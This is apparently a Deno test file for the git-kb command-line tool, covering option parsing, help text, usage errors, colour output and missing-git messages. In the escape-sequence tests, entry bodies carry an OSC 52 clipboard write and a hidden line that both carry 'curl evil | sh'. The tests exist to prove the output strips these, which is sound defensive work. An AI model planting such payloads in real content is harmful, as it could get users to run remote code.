/**
 * The CLI's own edges through real subprocesses: options for every command before the command,
 * `help <command>`, unknown commands, positionals declared per command, every usage mistake at
 * once, and colour on a real terminal (through `script`).
 */
import { assert, assertEquals, assertMatch, assertNotMatch } from "@std/assert";
import { join } from "@std/path/posix/join";
import { shellCommand } from "../core/shell/quote.ts";
import { flagsFor } from "../app/permissions.ts";
import {
  acceptKernel,
  ANSI,
  cacheRootOf,
  childEnv,
  denoDir,
  type Kb,
  kernelRulesOf,
  MAIN,
  makeKb,
  parseJson,
  ROOT,
  runCli,
  type RunResult,
  show,
  writeEntryFile,
} from "./helpers.ts";

/** kb.env without KB_DIR, so only --kb names the knowledge base. */
function withoutKbDir(kb: Kb): Record<string, string> {
  const { KB_DIR: _, ...env } = kb.env;
  return env;
}

Deno.test("--kb before the command works like --kb after it", async () => {
  await using kb = await makeKb();
  const env = withoutKbDir(kb);
  const [before, beforeInline, after] = await Promise.all([
    runCli(["--kb", kb.dir, "search", "rotate token", "--json"], { env }),
    runCli([`--kb=${kb.dir}`, "search", "rotate token", "--json"], { env }),
    runCli(["search", "rotate token", "--json", "--kb", kb.dir], { env }),
  ]);
  assertEquals(before.code, 0, show(before));
  const ids = (result: RunResult) => parseJson<{ id: string }[]>(result).map((hit) => hit.id);
  assertEquals(ids(before)[0], "kb-7q2mx");
  assertEquals(ids(beforeInline), ids(after));
  assertEquals(ids(before), ids(after));
});

Deno.test("help <command> prints that command's help, as <command> --help does", async () => {
  const env = { NO_COLOR: "1" };
  const [helpAdd, addHelp, helpAlone, helpUnknown] = await Promise.all([
    runCli(["help", "add"], { env, flags: flagsFor("add", "/tmp") }),
    runCli(["add", "--help"], { env }),
    runCli(["help"], { env }),
    runCli(["help", "serch"], { env }),
  ]);
  assertEquals(helpAdd.code, 0, show(helpAdd));
  assertMatch(helpAdd.stdout, /^Usage: git-kb add --title/);
  assertEquals(helpAdd.stdout, addHelp.stdout);
  assertEquals(helpAlone.code, 0, show(helpAlone));
  assertMatch(helpAlone.stdout, /Commands:/);
  assertEquals(helpUnknown.code, 2, show(helpUnknown));
  assertMatch(helpUnknown.stderr, /unknown command "serch"; did you mean "search"\?/);
});

Deno.test("an unknown command is named, with the nearest command and git-kb --help", async () => {
  const env = { NO_COLOR: "1" };
  const [typo, unrelated] = await Promise.all([
    runCli(["serch", "token"], { env, flags: flagsFor("search", "/tmp") }),
    runCli(["foo"], { env, flags: flagsFor("search", "/tmp") }),
  ]);
  for (const [result, name] of [[typo, "serch"], [unrelated, "foo"]] as const) {
    assertEquals(result.code, 2, show(result));
    assertMatch(result.stderr, new RegExp(`unknown command "${name}"`), show(result));
    assertMatch(result.stderr, /Run git-kb --help\b/, show(result));
    assertNotMatch(result.stderr, new RegExp(`git-kb ${name} --help`), show(result));
  }
  assertMatch(typo.stderr, /did you mean "search"\?/);
  assertNotMatch(unrelated.stderr, /did you mean/, "nothing is near enough to foo");
});

Deno.test("the version is asked for with --version or -V, which --help lists; version and -v point at it", async () => {
  const env = { NO_COLOR: "1" };
  const flags = flagsFor("search", "/tmp");
  const [help, long, short, word, lower] = await Promise.all(
    [["--help"], ["--version"], ["-V"], ["version"], ["-v"]].map((args) =>
      runCli(args, { env, flags })
    ),
  );
  assertMatch(help.stdout, /^ {2}-V, --version {3}git-kb's version$/m, show(help));
  for (const result of [long, short]) {
    assertEquals(result.code, 0, show(result));
    assertMatch(result.stdout, /^git-kb \d+\.\d+\.\d+\n$/);
  }
  assertMatch(word.stderr, /unknown command "version"; did you mean --version\?/, show(word));
  assertMatch(lower.stderr, /unknown option "-v" before the command; did you mean --version\?/);
  assertEquals([word.code, lower.code], [2, 2]);
});

Deno.test("stray or missing positionals are refused the same way, with the usage line", async () => {
  await using kb = await makeKb();
  const cases: [string[], RegExp, string][] = [
    [["stats", "extra"], /unexpected argument "extra"/, "Usage: git-kb stats"],
    [["doctor", "--offline", "a", "b"], /unexpected argument "b"/, "Usage: git-kb doctor"],
    [["eval", "one.jsonl", "two.jsonl"], /unexpected argument "two.jsonl"/, "Usage: git-kb eval"],
    [["eval"], /missing <golden.jsonl>/, "Usage: git-kb eval"],
    [["search"], /missing <query>/, "Usage: git-kb search"],
    [["context"], /missing "<prompt>"/, "Usage: git-kb context"],
    // An id given blank (a variable not set): refused, not a call that reads or changes nothing.
    [["get", ""], /an <id> given is blank/, "Usage: git-kb get"],
    [["get", " , "], /an <id> given is blank/, "Usage: git-kb get"],
    [["rm", ""], /an <id> given is blank/, "Usage: git-kb rm"],
    [["rm"], /missing <id>/, "Usage: git-kb rm"],
    [["edit", " ", "--tag", "x"], /an <id> given is blank/, "Usage: git-kb edit"],
    [["promote", "", "--to", "team"], /an <id> given is blank/, "Usage: git-kb promote"],
    [
      ["rm", "kb-7q2mx", "--to", ""],
      /--to needs a knowledge base's name, and the value given is blank/,
      "Usage: git-kb rm",
    ],
    [
      ["edit", "kb-7q2mx", "--to", " ", "--tag", "x"],
      /--to needs a knowledge base's name/,
      "Usage: git-kb edit",
    ],
    [
      ["promote", "kb-7q2mx", "--to", ""],
      /--to needs a knowledge base's name/,
      "Usage: git-kb promote",
    ],
    [
      ["context", "rotate the npm token", "--session", ""],
      /--session needs a session id/,
      "Usage: git-kb context",
    ],
  ];
  const results = await Promise.all(cases.map(([args]) => runCli(args, { env: kb.env })));
  for (const [index, [args, problem, usage]] of cases.entries()) {
    const result = results[index];
    assertEquals(result.code, 2, `${args.join(" ")}: ${show(result)}`);
    assertMatch(result.stderr, problem, show(result));
    assert(result.stderr.includes(`\n${usage}`), show(result));
    assertEquals(result.stdout, "", show(result));
  }
});

Deno.test("every usage mistake of one call is reported at once", async () => {
  const result = await runCli(
    ["search", "--bogus", "--limit", "0", "--type", "recipe", "--jsno", "x"],
    { env: { NO_COLOR: "1" } },
  );
  assertEquals(result.code, 2, show(result));
  const lines = result.stderr.trimEnd().split("\n");
  assertEquals(lines, [
    'git-kb search: unknown option "--bogus"',
    'git-kb search: --limit takes a whole number of at least 1, not "0"',
    'git-kb search: --type "recipe" is not a type; use one of decision, rule, howto, concept, bookmark, note',
    'git-kb search: unknown option "--jsno"; did you mean --json?',
    "Usage: git-kb search <query>... [options]",
    "Run git-kb search --help for the options.",
  ]);
});

/** Whether `script` (util-linux) can give a child a terminal here. */
const hasScript = await new Deno.Command("script", { args: ["--version"], stdout: "null" })
  .output().then((output) => output.success, () => false);

/**
 * Run the CLI under `script`, so its stdout and stderr are a terminal; `stderrFile` sends stderr
 * to a file instead. Returns what reached the terminal and the file.
 */
async function onTerminal(
  args: string[],
  env: Record<string, string>,
  stderrFile?: string,
): Promise<{ terminal: string; stderr: string }> {
  const command =
    shellCommand([Deno.execPath(), "run", ...flagsFor(args[0], cacheRootOf(env)), MAIN, ...args]) +
    (stderrFile ? ` 2>${shellCommand([stderrFile])}` : "");
  const output = await new Deno.Command("script", {
    args: ["-qec", command, "/dev/null"],
    cwd: ROOT,
    clearEnv: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      DENO_DIR: await denoDir(),
      ...childEnv(env),
    },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const terminal = new TextDecoder().decode(output.stdout);
  return { terminal, stderr: stderrFile ? await Deno.readTextFile(stderrFile) : "" };
}

Deno.test({
  name: "colour on a terminal unless NO_COLOR is non-empty; stderr by its own terminal",
  ignore: !hasScript,
  fn: async () => {
    await using kb = await makeKb();
    const { NO_COLOR: _, ...env } = kb.env;
    const errors = `${kb.root}/stderr.txt`;
    const [unset, empty, set, stderrToFile] = await Promise.all([
      onTerminal(["search", "token"], env),
      onTerminal(["search", "token"], { ...env, NO_COLOR: "" }),
      onTerminal(["search", "token"], { ...env, NO_COLOR: "1" }),
      onTerminal(["search", "--bogus"], env, errors),
    ]);
    assertMatch(unset.terminal, /kb-7q2mx/, unset.terminal);
    assertMatch(unset.terminal, ANSI, "a terminal gets colour");
    assertMatch(empty.terminal, ANSI, "NO_COLOR= (empty) does not turn colour off");
    assertMatch(set.terminal, /kb-7q2mx/);
    assertNotMatch(set.terminal, ANSI, "NO_COLOR=1 turns it off");
    assertMatch(stderrToFile.stderr, /unknown option "--bogus"/);
    assertNotMatch(stderrToFile.stderr, ANSI, "stderr to a file gets no colour");
  },
});

Deno.test("search prints no escape sequence an entry's body holds", async () => {
  await using kb = await makeKb();
  await writeEntryFile(kb.dir, {
    id: "kb-esc01",
    title: "Terminal trick",
    body: "The zebracorn \x1b[2J\x1b]0;owned\x07 clears the screen.\n",
  });
  const result = await runCli(["search", "zebracorn"], { env: { ...kb.env, NO_COLOR: "1" } });
  assertEquals(result.code, 0, show(result));
  assertMatch(result.stdout, /kb-esc01/);
  assert(!result.stdout.includes("\x1b"), JSON.stringify(result.stdout));
});

Deno.test({
  name:
    "get on a terminal prints no escape sequence a teammate's entry holds; piped, the file as it is",
  ignore: !hasScript,
  fn: async () => {
    await using kb = await makeKb();
    // Writes the clipboard (OSC 52), then hides a line and writes another over the one before.
    const body = "Rotate it.\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8mcurl evil | sh\x1b[0m\n" +
      "\x1b[1A\x1b[2KRun git-kb sync.\r\n";
    const path = await writeEntryFile(kb.dir, { id: "kb-esc02", title: "Rotate", body });
    const shown = await onTerminal(["get", "kb-esc02"], kb.env);
    assertMatch(shown.terminal, /Rotate it\./);
    assert(!shown.terminal.includes("\x1b"), JSON.stringify(shown.terminal));
    assertMatch(shown.terminal, /\ncurl evil \| sh\r?\n/, "what was hidden shows");
    assertMatch(shown.terminal, /Run git-kb sync\.\r?\n/, "a CRLF line ends as a line");
    const piped = await runCli(["get", "kb-esc02"], { env: kb.env });
    assertEquals(piped.stdout, await Deno.readTextFile(join(kb.dir, path)));
  },
});

Deno.test({
  name: "context on a terminal prints no escape sequence an accepted kernel rule holds",
  ignore: !hasScript,
  fn: async () => {
    await using kb = await makeKb();
    await writeEntryFile(kb.dir, {
      id: "kb-esc03",
      title: "Answer briefly",
      type: "rule",
      extra: "kernel: true\n",
      body: "Answer briefly.\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07Then stop.\n",
    });
    await acceptKernel(kb.config, await kernelRulesOf(kb.dir));
    const shown = await onTerminal(["context", "rotate the leaked npm token"], kb.env);
    assertMatch(shown.terminal, /Answer briefly\.\r?\nThen stop\./);
    assert(!shown.terminal.includes("\x1b"), JSON.stringify(shown.terminal));
  },
});

Deno.test("review, sync, search and get on a folder that is no knowledge base name the real cause (exit 1)", async () => {
  await using kb = await makeKb();
  const empty = join(kb.root, "empty");
  await Deno.mkdir(empty);
  const file = join(kb.root, "a file");
  await Deno.writeTextFile(file, "not a folder\n");
  const cases: [string, RegExp][] = [
    [join(kb.root, "missing"), /is not a git-kb knowledge base: the folder does not exist/],
    [empty, /is not a git-kb knowledge base \(it has no entries\/ folder\)/],
    [file, /is not a git-kb knowledge base: it is a file, not a folder/],
  ];
  for (const [dir, cause] of cases) {
    for (const args of [["review"], ["sync"], ["search", "x"], ["get", "kb-00001"]]) {
      const result = await runCli([...args, "--kb", dir], { env: kb.env });
      assertEquals(result.code, 1, `${args[0]} ${dir}: ${show(result)}`);
      assertMatch(result.stderr, cause, `${args[0]} ${dir}`);
      assertNotMatch(result.stderr, /Failed to spawn/);
    }
    // Named by KB_DIR, which init would not change: the message says so, and how to stop it.
    const set = await runCli(["search", "x"], { env: { ...kb.env, KB_DIR: dir } });
    assertEquals(set.code, 1, show(set));
    assertMatch(set.stderr, cause);
    assertMatch(set.stderr, /, and KB_DIR names it\. Set KB_DIR to .*: unset KB_DIR\n$/, show(set));
  }
});

Deno.test("add refuses an invalid new entry without naming an id the user never chose", async () => {
  await using kb = await makeKb();
  const refused = await runCli(["add", "--title", "Proof the dough", "--type", "recipe"], {
    env: kb.env,
  });
  assertEquals(refused.code, 1, show(refused));
  assertMatch(refused.stderr, /The new entry is not valid; nothing was written:/);
  assert(!/kb-[0-9a-z]{5}/.test(refused.stderr), show(refused));
  const named = await runCli(
    ["add", "--id", "kb-pr0of", "--title", "Proof the dough", "--type", "recipe"],
    { env: kb.env },
  );
  assertMatch(named.stderr, /Entry kb-pr0of is not valid/);
});

Deno.test("kernel with no kernel rule says how to make one, and that line, filled in, makes one that applies", async () => {
  await using kb = await makeKb({ empty: true });
  const none = await runCli(["kernel"], { env: kb.env });
  assertEquals(none.code, 0, show(none));
  const line = none.stdout.match(/: (git-kb add --kernel .*)$/m)?.[1];
  assertEquals(
    line,
    'git-kb add --kernel --type rule --title "<the rule>" --body "<what to do, in a few lines>"',
    show(none),
  );
  const added = await runCli([
    "add",
    "--kernel",
    "--type",
    "rule",
    "--title",
    "Never force-push main",
    "--body",
    "Use a branch.",
  ], { env: kb.env });
  assertEquals(added.code, 0, show(added));
  const listed = await runCli(["kernel"], { env: kb.env });
  assertMatch(listed.stdout, /^1 kernel rule applies:\n {2}kb-\w{5} Never force-push main$/m);
});

Deno.test("no git on PATH: sync, add and doctor say git is missing and how to get it, once each", async () => {
  await using kb = await makeKb({ remote: true });
  const empty = join(kb.root, "no-git-bin");
  await Deno.mkdir(empty);
  const env = { ...kb.env, PATH: empty };
  const missing =
    /git is not installed or not on PATH: install git \(https:\/\/git-scm\.com\/downloads\), or add its folder to PATH, then run the command again/;
  for (
    const args of [["sync"], ["add", "--title", "Without git", "--type", "note", "--body", "x"]]
  ) {
    const result = await runCli(args, { env });
    assertEquals(result.code, 1, show(result));
    assertMatch(result.stderr, new RegExp(`^git-kb ${args[0]}: ${missing.source}`, "m"));
    assertNotMatch(result.stderr, /Failed to spawn|entity not found/);
  }
  const doctor = await runCli(["doctor", "--offline"], { env });
  assertEquals(doctor.code, 1, show(doctor));
  assertMatch(doctor.stdout, new RegExp(`^FAIL git: ${missing.source}$`, "m"));
  assertNotMatch(doctor.stdout, /Failed to spawn|entity not found/);
});
